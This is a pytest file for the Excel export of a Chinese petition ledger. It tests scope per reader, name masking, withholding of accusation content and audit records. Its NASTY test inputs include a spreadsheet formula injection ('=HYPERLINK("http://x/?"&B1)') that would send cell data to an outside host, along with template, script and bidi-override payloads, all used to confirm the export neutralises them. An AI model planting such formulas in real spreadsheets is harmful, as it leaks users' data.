"""导出台账: the reader's own scope, masked, every row once, nothing alive, recorded before a byte leaves."""

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import Result
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.client import Client, settle
from tests.conftest import Clock
from tests.people.factories import make_department, make_user, sign_in
from tests.world.county import County
from tests.world.rows import TODAY, a_case, assigned, kept, reader
from tracker.audit import Event, record
from tracker.audit.models import AuditEvent
from tracker.audit.queries import verify
from tracker.cases.ledger import EXPORT_COLUMNS, Filters, page
from tracker.cases.ledger.export import WITHHELD
from tracker.cases.record.models import Case, NamedReader
from tracker.core import clock as core_clock
from tracker.core.database import committed, db
from tracker.core.errors import DomainError
from tracker.people.models import User
from tracker.people.rules import Reader, Role
from tracker.spreadsheets.export_ledger import export
from tracker.web.ledger import exports

NASTY = ('=HYPERLINK("http://x/?"&B1)', "+1", "-1", "@SUM(A1)", "a\x0bb\u202egpj", "长" * 40_000, "{{7*7}}", "<script>")


@pytest.fixture
def county(county: County) -> County:
    """Give the county with ten cases, nasty ones among them, and an accusation that only one person may know of."""
    for number, text in enumerate(NASTY):
        a_case(
            county, text[:200], summary=text, names=("欧阳建国",), village_id=county.village.id if number % 2 else None
        )
    assigned(a_case(county, "交给民政局的件", names=("张建国",)), county.civil)
    secret = a_case(county, "检举某某", summary="内容绝密", level="accusation", names=("举报人",), purpose="accusation")
    kept(NamedReader(case_id=secret.id, user_id=county.acceptor.id, because="登记人", added_at=core_clock.now()))
    return county


def exported(who: Reader | None, clock: Clock, **args: str) -> Any:
    """Export and open with openpyxl."""
    out = io.BytesIO()
    done = export(who, Filters.parse(args, today=TODAY), out, by="李晓梅", now=clock.now())
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert book["信访台账"].max_row == done.written.rows + 1
    return book


def texts(book: Any) -> str:
    return "\n".join(str(cell.value) for sheet in book for row in sheet for cell in row if cell.value is not None)


def rows(book: Any) -> list[dict[str, Any]]:
    head, *lines = book["信访台账"].iter_rows(values_only=True)
    return [dict(zip(head, line, strict=True)) for line in lines]


def test_every_row_once_with_every_column_and_nothing_alive(county: County, clock: Clock) -> None:
    book = exported(reader(county.acceptor), clock)
    sheet = book["信访台账"]
    assert [cell.value for cell in sheet[1]] == [column.heading for column in EXPORT_COLUMNS]
    assert len(EXPORT_COLUMNS) >= 30
    numbers = [row["登记编号"] for row in rows(book)]
    assert sorted(numbers) == sorted(db.session.scalars(select(Case.register_no)))
    assert {cell.data_type for each in book for row in each.iter_rows() for cell in row} <= {"s", "n", "d"}
    assert "件数\n10" in texts(book)


def test_a_long_text_goes_on_in_its_own_sheet(county: County, clock: Clock) -> None:
    book = exported(reader(county.acceptor), clock)
    cell = next(row["概况"] for row in rows(book) if str(row["概况"]).startswith("长长"))
    rest = "".join(line[4] for line in book["续表"].iter_rows(min_row=2, values_only=True))
    assert cell.removesuffix("（续见“续表”，共 40000 字）") + rest == "长" * 40_000


def test_names_are_masked_and_control_characters_visible(county: County, clock: Clock) -> None:
    said = texts(exported(reader(county.acceptor), clock))
    assert "欧*" in said
    assert "欧阳建国" not in said
    assert "a\u240bb\ufffdgpj" in said


@pytest.mark.parametrize(
    ("who", "count"), [("acceptor", 10), ("handler", 1), ("unit_head", 1), ("stranger", 0), ("lead", 0)]
)
def test_everybody_gets_his_own_scope(county: County, clock: Clock, who: str, count: int) -> None:
    person: User = getattr(county, who)
    book = exported(reader(person), clock)
    assert len(rows(book)) == count == page(reader(person), Filters(), today=TODAY).total
    assert ("内容绝密" in texts(book)) == (who == "acceptor")


def test_the_filter_the_scope_and_the_time_stand_in_the_file(county: County, clock: Clock) -> None:
    book = exported(reader(county.acceptor), clock, state="unplaced", words="水利局")
    assert [row["标题"] for row in rows(book)] == []
    notes = {row[0].value: row[1].value for row in book["说明"]}
    assert notes["筛选"] == "查找 水利局；台账 属地待定"
    assert (notes["导出人"], notes["导出时间"], notes["件数"]) == ("李晓梅", "2026年11月21日 09:00", "0")
    assert notes["范围"] == "导出人可以查看的件"
    assert "共 0 件" in book["信访台账"].oddHeader.left.text


def test_the_system_export_has_every_row_but_not_what_an_accusation_says(county: County, clock: Clock) -> None:
    book = exported(None, clock)
    assert len(rows(book)) == 10
    secret = [row for row in rows(book) if row["标题"] == WITHHELD]
    assert len(secret) == 1
    assert {name for name, value in secret[0].items() if value not in (None, "", 0)} == {
        "登记编号", "收到日期", "标题", "状态", "销号", "办理轮次",
    }  # fmt: skip
    assert not any(word in texts(book) for word in ("内容绝密", "检举某某", "举*", "欧阳建国"))


def test_more_rows_than_a_page_gives_is_a_sentence(county: County, clock: Clock) -> None:
    with pytest.raises(DomainError, match="一次最多导出 3 件"):
        export(reader(county.acceptor), Filters(), io.BytesIO(), most=3, by="李晓梅", now=clock.now())
    assert (
        export(reader(county.acceptor), Filters(), io.BytesIO(), most=10, by="李", now=clock.now()).written.rows == 10
    )


# The command


def command(app: Flask, *arguments: object) -> Result:
    return app.test_cli_runner().invoke(args=[str(argument) for argument in arguments])


def readings() -> list[tuple[str, int | None, Any]]:
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.log_id == 2).order_by(AuditEvent.seq))
    told = [(event, json.loads(event.payload)) for event in events]
    return [
        (event.kind, event.actor_id, {key: said for key, said in payload.items() if key != "other_log"})
        for event, payload in told
    ]


@pytest.fixture
def office(session: Session) -> tuple[User, User]:
    """Give an acceptor and an administrator, and three imported-looking cases of the office."""
    with committed():
        office = make_department("县信访局")
        acceptor = make_user("lixiaomei", "李晓梅", roles=[(Role.ACCEPTOR, office)])
        keeper = make_user("keeper", "郭强", roles=[(Role.ADMINISTRATOR, office)])
    return acceptor, keeper


@pytest.mark.both_databases
def test_the_whole_ledger_from_the_command_line(app: Flask, office: tuple[User, User], tmp_path: Path) -> None:
    target = tmp_path / "台账.xlsx"
    result = command(app, "export-ledger", target)
    assert (result.exit_code, result.stdout) == (0, f"已导出 0 件到 {target}。\n")
    assert openpyxl.load_workbook(target).sheetnames == ["信访台账", "说明"]
    assert readings() == [("ledger.exported", None, {"rows": 0, "filters": []})]
    filtered = command(app, "export-ledger", target, "--as", "lixiaomei", "--answered", "late", "--state", "open")
    assert filtered.exit_code == 0, filtered.output
    kind, actor, payload = readings()[-1]
    assert (kind, actor) == ("ledger.exported", office[0].id)
    assert (payload["filters"], "text_sha256" in payload) == (["state", "answered"], True)
    assert verify().wrong is None


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        ((), "请写明文件"),
        (("x.xlsx", "--sort", "名称"), "次序只能是 due、"),
        (("x.csv",), "文件名应以 .xlsx 结尾。"),
        (("/没有/x.xlsx",), "写不到文件"),
        (("x.xlsx", "--as", "nobody"), "没有账号“nobody”"),
        (("x.xlsx", "--as", "keeper"), "没有导出台账的权限"),
        (("x.xlsx", "--mine", "handling"), "--mine 要与 --as 一起用。"),
        (("x.xlsx", "--state", "xyz"), "没有“xyz”这一项"),
        (("x.xlsx", "--received-from", "2026-02-30"), "没有“2026-02-30”这一天"),
    ],
)
def test_failures_are_sentences(
    app: Flask,
    office: tuple[User, User],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    arguments: tuple[str, ...],
    sentence: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    result = command(app, "export-ledger", *arguments)
    assert result.exit_code == 1
    assert sentence in result.stderr
    assert not list(tmp_path.glob("*"))
    assert readings() == []


# The page


def test_the_page_gives_the_list_of_its_address(office: tuple[User, User], new_client: Callable[[], Client]) -> None:
    client = new_client()
    sign_in(client, office[0])
    answer = client.get("/export/ledger?state=open&sort=number")
    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    assert "%E4%BF%A1%E8%AE%BF%E5%8F%B0%E8%B4%A6" in answer.headers["Content-Disposition"]
    notes = {row[0].value: row[1].value for row in openpyxl.load_workbook(io.BytesIO(answer.data))["说明"]}
    assert (notes["筛选"], notes["导出人"]) == ("台账 在办", "李晓梅")
    assert readings()[-1] == ("ledger.exported", office[0].id, readings()[-1][2])


def test_too_long_a_list_is_refused_on_the_page_with_a_sentence(
    county: County, monkeypatch: pytest.MonkeyPatch
) -> None:
    settle()
    with committed():
        record(Event.DEMO_LOADED, by=None, now=core_clock.now())
    monkeypatch.setattr(exports, "MOST_ROWS", 3)
    answer = county.browser("checker").get("/export/ledger")
    assert (answer.status_code, "一次最多导出 3 件" in answer.text) == (422, True)


def test_who_may_not_export_gets_no_file(office: tuple[User, User], new_client: Callable[[], Client]) -> None:
    client = new_client()
    assert client.get("/export/ledger").status_code == 303
    sign_in(client, office[1])
    assert client.get("/export/ledger").status_code == 403
    assert not [kind for kind, _, _ in readings() if kind == "ledger.exported"]
